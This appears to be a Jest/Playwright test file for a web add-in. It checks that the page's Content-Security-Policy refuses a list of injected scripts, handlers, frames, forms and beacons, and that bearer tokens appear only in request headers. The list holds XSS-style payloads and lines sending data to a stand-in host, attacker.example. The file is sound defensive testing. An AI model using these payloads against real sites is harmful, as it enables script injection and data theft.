/** What the pages' Content-Security-Policy stops, shown by trying; and where a token may be found: nowhere but in a request's header. */
import { afterAll, beforeAll, expect, test } from "@jest/globals";
import type { BrowserContext, Frame, Request } from "playwright-core";
import { load, openTheatre, play, playScenario } from "./fixtures/play";
import type { Stage, Theatre } from "./fixtures/play";

let theatre: Theatre;

beforeAll(async () => {
  theatre = await openTheatre();
});

afterAll(async () => {
  await theatre.close();
});

/** The directives that the pane's page was told of as broken, as the lab's page writes them down. */
function refused(frame: Frame): Promise<string[]> {
  return frame.evaluate(() =>
    performance
      .getEntriesByName("lab:refused")
      .map((entry) => (entry instanceof PerformanceMark ? String(entry.detail) : "")),
  );
}

/** What somebody who can put an element into the page would try, each with the directive that has to stop it. */
const INJECTIONS: readonly (readonly [name: string, directive: RegExp, inject: (frame: Frame) => Promise<unknown>])[] =
  [
    [
      "a script in the page",
      /^script-src-elem inline/,
      (frame) =>
        frame.evaluate(() => {
          const script = document.createElement("script");
          script.textContent = "window.injected = true";
          document.body.append(script);
        }),
    ],
    [
      "a script of another host",
      /^script-src-elem https:\/\/attacker\.example/,
      (frame) =>
        frame.evaluate(() => {
          const script = document.createElement("script");
          script.src = "https://attacker.example/x.js";
          document.body.append(script);
        }),
    ],
    [
      "a script in its own address",
      /^script-src-elem data/,
      (frame) =>
        frame.evaluate(() => {
          const script = document.createElement("script");
          script.src = "data:text/javascript,window.injected=true";
          document.body.append(script);
        }),
    ],
    [
      "a handler in an attribute",
      /^script-src-attr inline/,
      (frame) =>
        frame.evaluate(() => {
          const button = document.createElement("button");
          button.setAttribute("onclick", "window.injected = true");
          document.body.append(button);
          button.click();
        }),
    ],
    [
      "a picture's error handler",
      /^script-src-attr inline/,
      (frame) =>
        frame.evaluate(() => {
          const parsed = new DOMParser().parseFromString(
            '<img src="data:," onerror="window.injected = true">',
            "text/html",
          );
          const image = parsed.querySelector("img");
          if (image) document.body.append(document.adoptNode(image));
        }),
    ],
    [
      "a link that is a script",
      /^script-src-elem inline/,
      (frame) =>
        frame.evaluate(() => {
          const link = document.createElement("a");
          link.href = "javascript:void (window.injected = true)";
          document.body.append(link);
          link.click();
        }),
    ],
    [
      "text that becomes a script",
      /^script-src eval/,
      (frame) =>
        frame.evaluate(() => {
          // Lint forbids it in the product; here it is the attack.
          window.setTimeout("window.injected = true" as unknown as () => void, 0);
        }),
    ],
    [
      "a frame without encryption",
      /^frame-src http:\/\/attacker\.example/,
      (frame) =>
        frame.evaluate(() => {
          const inner = document.createElement("iframe");
          inner.src = "http://attacker.example/";
          document.body.append(inner);
        }),
    ],
    [
      "an embedded object",
      /^object-src/,
      (frame) =>
        frame.evaluate(() => {
          const embedded = document.createElement("object");
          embedded.data = "https://attacker.example/x.swf";
          document.body.append(embedded);
        }),
    ],
    [
      "a form that carries data away",
      /^form-action https:\/\/attacker\.example/,
      (frame) =>
        frame.evaluate(() => {
          const form = document.createElement("form");
          form.action = "https://attacker.example/";
          document.body.append(form);
          form.submit();
        }),
    ],
    [
      "a request that carries data away",
      /^connect-src https:\/\/attacker\.example/,
      (frame) => frame.evaluate(() => fetch("https://attacker.example/?d=1").catch(() => undefined)),
    ],
    [
      "a picture that carries data away",
      /^img-src https:\/\/attacker\.example/,
      (frame) =>
        frame.evaluate(() => {
          const image = new Image();
          image.src = "https://attacker.example/?d=1";
        }),
    ],
    [
      "another base for the page's addresses",
      /^base-uri/,
      (frame) =>
        frame.evaluate(() => {
          const base = document.createElement("base");
          base.href = "https://attacker.example/";
          document.head.append(base);
        }),
    ],
  ];

test.each(INJECTIONS)("%s is refused by the page's policy", async (_, directive, inject) => {
  await play(theatre, "ready.json", "light", async ({ pane }) => {
    expect(await refused(pane.frame)).toEqual([]);
    await inject(pane.frame);
    await pane.frame.waitForFunction(() => performance.getEntriesByName("lab:refused").length > 0);
    expect(await refused(pane.frame)).toEqual([expect.stringMatching(directive)]);
    expect(await pane.frame.evaluate(() => "injected" in window)).toBe(false);
  });
});

/** Everything of a page that outlives a moment: text, attributes, marks, addresses, storage. */
function whatIsKept(page: Frame): Promise<string> {
  return page.evaluate(async () => {
    const databases = await indexedDB.databases();
    const rows = await Promise.all(
      databases.map(async ({ name }) => {
        const database = await new Promise<IDBDatabase>((resolve, reject) => {
          const opening = indexedDB.open(name ?? "");
          opening.onsuccess = () => resolve(opening.result);
          opening.onerror = () => reject(opening.error ?? new Error("no database"));
        });
        const all = await Promise.all(
          [...database.objectStoreNames].map(
            (store) =>
              new Promise<unknown>((resolve, reject) => {
                const reading = database.transaction(store).objectStore(store).getAll();
                reading.onsuccess = () => resolve(reading.result);
                reading.onerror = () => reject(reading.error ?? new Error("no rows"));
              }),
          ),
        );
        database.close();
        return all;
      }),
    );
    return JSON.stringify([
      new XMLSerializer().serializeToString(document),
      location.href,
      performance
        .getEntries()
        .map((entry) => [entry.name, entry instanceof PerformanceMark ? JSON.stringify(entry.detail) : ""]),
      // MSAL's own cache is encrypted where it is kept (docs/privacy.md); ours holds no token.
      Object.entries(localStorage).filter(([key]) => !key.startsWith("msal")),
      Object.entries(sessionStorage).filter(([key]) => !key.startsWith("msal")),
      document.cookie,
      rows,
    ]);
  });
}

test.each(["ready.json", "read-only.json", "token-not-accepted.json", "skype-ready.json"])(
  "%s: a token is in the headers of requests, and nowhere else",
  async (file) => {
    const said: string[] = [];
    const sent: Request[] = [];
    const listen = (context: BrowserContext): Promise<void> => {
      context.on("console", (message) => said.push(message.text()));
      context.on("weberror", (error) => said.push(String(error.error().stack)));
      context.on("request", (request) => sent.push(request));
      return Promise.resolve();
    };
    const use = async ({ pane, press }: Stage): Promise<void> => {
      if (file === "ready.json") {
        await pane.frame.locator('[data-action="convert"]').first().click();
        await pane.frame.locator('[data-action="confirm"]').first().waitFor();
        await press("confirm");
      }
      await pane.frame.locator('[data-action="more-help"]').first().click();
      const tokens = new Set<string>();
      for (const request of sent) {
        const token = /^Bearer\s+(.+)$/i.exec((await request.allHeaders())["authorization"] ?? "")?.[1];
        if (token !== undefined) tokens.add(token);
      }
      expect(tokens.size).toBeGreaterThan(0);
      const addresses = sent.map((request) => request.url());
      const kept = [await whatIsKept(pane.frame), ...said, ...addresses].join("\n");
      for (const token of tokens) expect(kept).not.toContain(token);
    };
    await playScenario(theatre, load(file), "light", use, { file, prepare: listen });
  },
);
